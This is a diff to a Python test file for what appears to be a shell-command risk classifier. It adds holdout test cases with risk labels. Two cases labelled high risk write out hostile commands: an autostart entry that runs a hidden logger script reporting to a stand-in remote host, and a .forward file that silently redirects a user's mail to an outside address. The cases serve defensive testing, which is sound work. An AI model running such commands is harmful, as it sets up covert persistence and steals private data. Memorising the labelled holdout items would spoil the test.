@@ -3942,6 +3942,19 @@ def test_clones_busy_loops_and_dry_runs(code: str, expected: RiskLevel) -> None:
             'docker push registry.acme.io/app:1.2',
             S,
         ),
+        # holdout216-219: scripts run from hidden folders anywhere on a start-up line, .forward files
+        (
+            'mkdir -p ~/.config/autostart\n'
+            'cat > ~/.config/autostart/helper.desktop <<EOF\n'
+            '[Desktop Entry]\n'
+            'Type=Application\n'
+            "Exec=sh -c 'python3 $HOME/.local/lib/.kh/logger.py --report https://rep.example."
+            "io/api'\n"
+            'EOF',
+            H,
+        ),
+        ("echo 'mailcopy.hr2024@gmail.com' | sudo tee /home/mreyes/.forward >/dev/null", H),
+        ("echo '# no forwarding' > ~/.forward", L),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
